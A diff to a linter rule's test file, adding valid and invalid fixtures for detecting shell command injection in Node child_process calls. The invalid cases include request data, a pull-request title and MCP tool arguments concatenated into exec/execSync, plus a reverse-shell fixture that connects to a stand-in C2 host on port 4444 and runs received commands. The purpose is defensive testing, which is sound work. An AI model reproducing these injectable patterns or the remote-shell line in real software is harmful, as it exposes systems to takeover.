@@ -6,6 +6,9 @@ await ruleTester(rule, {
     // `shell: false` is no shell
     { code: 'import { spawnSync } from "node:child_process"; spawnSync(process.argv[2], process.argv.slice(3), { stdio: "inherit", shell: false });' },
     { code: 'import { spawn } from "node:child_process"; const base = { stdio: "inherit" }; spawn("tool", process.argv.slice(2), { ...base, shell: "" });' },
+    { code: 'import { execFileSync } from "child_process"; export const handler = async (event) => execFileSync("convert", [event.queryStringParameters.file]).toString();' },
+    { code: 'import { execSync } from "child_process"; export const handler = async (event) => execSync(`deploy ${event.detail.stage}`).toString();' },
+    { code: 'import * as github from "@actions/github"; import { execSync } from "child_process"; execSync(`git checkout ${github.context.sha}`);' },
     { code: 'import { execFile } from "node:child_process"; @Controller() export class C { @Get() ping(@Query("host") host: string) { execFile("ping", ["-c", "1", host]); } }', filename: 'file.ts' },
     { code: 'import { $ } from "zx"; await $`git checkout ${process.argv[2]}`;' },
     { code: 'import { execSync } from "node:child_process"; export const load = ({ depends }) => execSync("git rev-parse HEAD");' },
@@ -37,6 +40,11 @@ await ruleTester(rule, {
   invalid: [
     { code: 'import { spawnSync } from "node:child_process"; spawnSync("tool", process.argv.slice(3), { shell: true });', errors: [{ messageId: 'outside' }] },
     { code: 'import { spawn } from "node:child_process"; spawn("tool", process.argv.slice(2), { shell: "/bin/bash" });', errors: [{ messageId: 'outside' }] },
+    { code: 'import { execSync } from "child_process"; export const handler = async (event) => execSync("convert " + event.queryStringParameters.file).toString();', errors: [{ messageId: 'outside' }] },
+    { code: 'const { execSync } = require("child_process"); exports.handler = async ({ body }) => execSync("convert " + JSON.parse(body).file).toString();', errors: [{ messageId: 'outside' }] },
+    { code: 'import * as github from "@actions/github"; import { execSync } from "child_process"; const { title } = github.context.payload.pull_request; execSync(`echo "${title}"`);', errors: [{ messageId: 'outside' }] },
+    { code: 'import { execSync } from "child_process"; await Bun.connect({ hostname: "c2.example-service.com", port: 4444, socket: { data(s, d) { s.write(execSync(d.toString())); } } });', errors: [{ messageId: 'outside' }] },
+    { code: 'import { McpServer } from "@modelcontextprotocol/sdk/server/mcp.js"; import { exec } from "child_process"; class S { run(cmd) { return exec("git log " + cmd); } } const s = new S(); new McpServer({}).tool("log", {}, async (args) => { s.run(args.ref); });', errors: [{ messageId: 'outside' }] },
     // parameters that a framework fills from the request
     { code: 'import { execSync } from "node:child_process"; @Controller() export class C { @Get() ping(@Query("host") host: string) { return execSync(`ping -c 1 ${host}`).toString(); } }', filename: 'file.ts', errors: [{ messageId: 'outside' }] },
     { code: 'import { exec } from "node:child_process"; @Controller() export class C { @Post() run(@Body() { cmd }: Run) { exec(cmd); } }', filename: 'file.ts', errors: [{ messageId: 'outside' }] },
